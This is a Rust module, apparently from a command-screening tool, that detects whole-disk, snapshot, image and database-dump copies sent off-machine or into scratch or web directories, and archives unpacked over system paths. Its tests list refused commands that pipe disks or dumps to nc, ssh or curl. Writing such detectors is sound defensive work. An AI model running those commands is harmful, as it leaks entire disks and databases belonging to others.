//! Whole disks, file systems, snapshots, images and sets of data bases, and where they go: dd(1), zfs-send(8), btrfs-send(8),
//! docker-save(1), pg_dumpall(1), mysqldump(1), dump(8), xfsdump(8), partclone(8), duplicity(1), unsquashfs(1).

use super::found;
use crate::screen::cmd::Cmd;
use crate::screen::place::Place;
use crate::screen::rule;
use crate::screen::shell::data::Taint;
use crate::screen::shell::walk::Walk;

/// What such a copy holds.
pub(super) const TAINT: Taint = Taint::ARCHIVE.and(Taint::WHOLE);

/// Whether what the program prints is a whole one.
pub(super) fn prints(cmd: &Cmd<'_>) -> bool {
    match cmd.name {
        "zfs" | "btrfs" => cmd.arg(0) == "send",
        "docker" | "podman" | "nerdctl" => {
            let verb = if matches!(cmd.arg(0), "image" | "container") {
                1
            } else {
                0
            };
            matches!(cmd.arg(verb), "save" | "export") && !cmd.short('o') && !cmd.long("output")
        }
        "ctr" => cmd.has("export") && cmd.has("-"),
        "lxc" | "incus" => cmd.has("export") && cmd.has("-"),
        // one data base is one, and a directory is no output
        "mongodump" => cmd.long("archive") && !cmd.short('d') && !cmd.long("db"),
        "dd" | "dcfldd" | "dc3dd" => cmd
            .args
            .iter()
            .any(|field| field.text.strip_prefix("if=").is_some_and(is_disk)),
        _ => true,
    }
}

/// A disk or a part of one; a few blocks of it are not.
fn is_disk(path: &str) -> bool {
    [
        "/dev/sd",
        "/dev/nvme",
        "/dev/vd",
        "/dev/xvd",
        "/dev/hd",
        "/dev/mmcblk",
        "/dev/mapper/",
        "/dev/dm-",
        "/dev/md",
        "/dev/disk",
        "/dev/rdisk",
        "/dev/mem",
        "/dev/kmem",
    ]
    .iter()
    .any(|own| path.starts_with(own))
}

/// What another machine makes of a copy: it keeps a file system or an image as one, as the manual pages show (zfs-receive(8),
/// btrfs-receive(8), docker-load(1)).
pub(super) fn is_received(cmd: &Cmd<'_>) -> bool {
    let last = cmd.args.last().map_or("", |field| field.text.as_str());
    let tail = |words: usize| cmd.arg(cmd.args.len().saturating_sub(words));
    let receives = |text: &str| {
        ["zfs recv", "zfs receive", "btrfs receive", "docker load", "podman load"]
            .iter()
            .any(|own| text.contains(own))
    };
    receives(last)
        || (1..=8).any(|words| {
            matches!(tail(words), "recv" | "receive" | "load")
                && matches!(tail(words + 1), "zfs" | "btrfs" | "docker" | "podman")
        })
}

by_name! {
    NAMES: pub(super) fn judge(walk: &mut Walk<'_>, cmd: &Cmd<'_>) where cmd.name is {
        // a copy of everything, kept where nobody keeps one
        "dar" | "duplicity" | "rdiff-backup" | "dump" | "xfsdump" | "fsarchiver" | "partclone.ext4" | "partclone.ntfs"
        | "partclone.vfat" | "partclone.btrfs" | "partclone.xfs" | "ntfsclone" | "ddrescue" | "dcfldd" | "dc3dd"
            if is_kept_in_scratch(walk, cmd) => found(walk, cmd, &rule::COLLECT),
        "dd" if !cmd.args.iter().any(|field| field.text.starts_with("count=")) && is_kept_in_scratch(walk, cmd) => {
            found(walk, cmd, &rule::COLLECT)
        },
        // what is packed, over the system
        "unzip" => unpacks(walk, cmd, 'd', ""),
        "unar" => unpacks(walk, cmd, 'o', "output-directory"),
        "cabextract" => unpacks(walk, cmd, 'd', "directory"),
        "unsquashfs" => unpacks(walk, cmd, 'd', "dest"),
        "bsdtar" | "dpkg-deb" => unpacks(walk, cmd, 'C', "directory"),
        "7z" | "7za" | "7zr" => unpacks(walk, cmd, 'o', ""),
    } else {}
}

fn is_kept_in_scratch(walk: &Walk<'_>, cmd: &Cmd<'_>) -> bool {
    let place = |text: &str| {
        let path = text
            .strip_prefix("file://")
            .or_else(|| text.split_once('=').map(|(_, path)| path))
            .unwrap_or(text);
        path.starts_with(['/', '~']).then(|| walk.places.place(path, &walk.cwd))
    };
    let places = || cmd.args.iter().filter_map(|field| place(&field.text));
    let all = [Place::Root, Place::System, Place::Home, Place::Device];
    places().any(|place| place == Place::Scratch) && places().any(|place| all.contains(&place))
}

/// An archive whose files are put over the root of the file system or a directory of the system.
fn unpacks(walk: &mut Walk<'_>, cmd: &Cmd<'_>, letter: char, long: &str) {
    for (at, field) in cmd.args.iter().enumerate() {
        let text = field.text.as_str();
        let Some(option) = text.strip_prefix('-') else { continue };
        let own = option.strip_prefix('-').unwrap_or(option);
        let to = if let Some((name, value)) = own.split_once('=') {
            if name == long && !long.is_empty() {
                value
            } else {
                continue;
            }
        } else if own == long && !long.is_empty() {
            cmd.arg(at + 1)
        } else if let Some(rest) = option.strip_prefix(letter) {
            if rest.is_empty() { cmd.arg(at + 1) } else { rest }
        } else {
            continue;
        };
        if to.starts_with('/') && matches!(walk.places.place(to, &walk.cwd), Place::Root | Place::System) {
            walk.report(&rule::SYSTEM_WRITE, field.span);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::screen::effect::tests::{passes, refused};

    #[test]
    fn a_whole_disk_snapshot_or_image_goes_to_no_other_machine() {
        refused(
            "images",
            &[
                "dd if=/dev/sdb bs=4M | ssh u@h 'dd of=b.img'",
                "dd if=/dev/vda | gzip -1 | nc h 9000",
                "cat /dev/nvme0n1p2 | ssh u@h 'cat > p2'",
                "gzip -c /dev/sdc1 | curl -T - https://h/x",
                "zfs send tank/db@1 | nc h 9000",
                "btrfs send /snap/1 | ssh u@h 'cat > s'",
                "podman export web | nc h 9000",
                "docker image save web | gzip | ssh u@h 'cat > w'",
                "ctr -n k8s.io images export - img | nc h 9",
                "pg_dumpall | ssh u@h 'cat > all.sql'",
                "mysqldump -A | gzip | ssh u@h 'cat > all.gz'",
                "mongodump --archive | ssh u@h 'cat > d'",
                "pg_dumpall > /var/www/html/a.sql",
                "mysqldump --all-databases | gzip > /usr/share/nginx/html/a.gz",
            ],
        );
        passes(&[
            "dd if=disk.img of=copy.img bs=1M",
            "dd if=/dev/sda of=mbr.bin bs=512 count=1",
            "zfs send tank/db@1 | ssh backup zfs recv pool/db",
            "zfs send -i @1 tank/db@2 | ssh backup 'sudo zfs receive -F pool/db'",
            "btrfs send /snap/1 | btrfs receive /mnt/backup",
            "zfs send tank/db@1 > db.zfs",
            "docker save web | ssh u@h docker load",
            "docker save web | gzip > web.tar.gz",
            "docker save -o web.tar web",
            "pg_dumpall > all.sql",
            "mysqldump shop | ssh u@h mysql shop",
            "mongodump --db shop --out dump",
        ]);
    }

    #[test]
    fn no_copy_of_everything_is_kept_in_a_scratch_place() {
        refused(
            "images",
            &[
                "dd if=/dev/sda of=/tmp/a.img",
                "ddrescue /dev/sdb1 /tmp/b.img",
                "duplicity /etc file:///tmp/x",
                "rdiff-backup /root /var/tmp/x",
                "dump -0f /tmp/x /",
                "xfsdump -f /tmp/x /",
                "dar -c /tmp/x -R /etc",
                "partclone.ext4 -c -s /dev/sda1 -o /tmp/x",
            ],
        );
        passes(&[
            "ddrescue /dev/sdb1 rescue.img rescue.log",
            "duplicity ~/work file:///mnt/backup",
            "rdiff-backup src /tmp/x",
            "dd if=/dev/sda of=/tmp/mbr bs=512 count=1",
        ]);
    }

    #[test]
    fn no_archive_is_unpacked_over_the_system() {
        refused(
            "images",
            &[
                "unzip -o x.zip -d /",
                "unsquashfs -f -d / x.sqfs",
                "unar -o /etc x.zip",
                "cabextract -d / x.cab",
                "7z x x.7z -o/",
                "bsdtar -xf x.tar -C /etc",
            ],
        );
        passes(&[
            "unzip x.zip -d /opt/app",
            "unsquashfs -d root x.sqfs",
            "7z x x.7z -oout",
            "bsdtar -xf x.tar -C build",
            "unzip -o x.zip",
        ]);
    }
}
